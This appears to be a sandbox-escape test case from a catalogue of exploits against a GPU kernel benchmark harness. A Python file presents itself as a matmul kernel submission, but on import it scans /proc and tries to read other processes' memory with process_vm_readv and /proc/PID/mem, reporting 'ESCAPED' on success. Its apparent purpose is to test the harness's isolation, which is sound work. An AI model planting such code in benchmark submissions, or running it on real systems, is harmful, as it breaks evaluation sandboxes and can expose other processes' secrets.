# SPDX-License-Identifier: MIT
# class: host
# problem: matmul
# device: cpu
# idea: reads the memory of other processes by /proc/PID/mem and process_vm_readv
# source: pygpubench exploits; catalogue 3.6
# needs: sandbox
import ctypes
import os
from pathlib import Path

import torch

LIBC = ctypes.CDLL(None, use_errno=True)


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def regions(process):
    for line in (process / "maps").read_text().splitlines():
        span, mode, *_rest = line.split()
        if mode.startswith("rw"):
            begin, end = (int(part, 16) for part in span.split("-"))
            yield begin, min(end - begin, 1 << 20)


def steal(process):
    for begin, size in regions(process):
        buffer = ctypes.create_string_buffer(size)
        ours, theirs = Vector(ctypes.addressof(buffer), size), Vector(begin, size)
        if LIBC.process_vm_readv(int(process.name), ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0) > 0:
            return f"process_vm_readv of {process.name}"
        with (process / "mem").open("rb", buffering=0) as memory:
            memory.seek(begin)
            if memory.read(size):
                return f"/proc/{process.name}/mem"
    return ""


for process in Path("/proc").glob("[0-9]*"):
    if int(process.name) != os.getpid():
        try:
            told = steal(process)
        except (OSError, ValueError):
            continue
        if told:
            raise RuntimeError(f"ESCAPED: {told} ({(process / 'comm').read_text().strip()})")


def custom_kernel(data):
    a, b, s, _ = data
    return torch.mm(a, b.t()) * s[:, None]
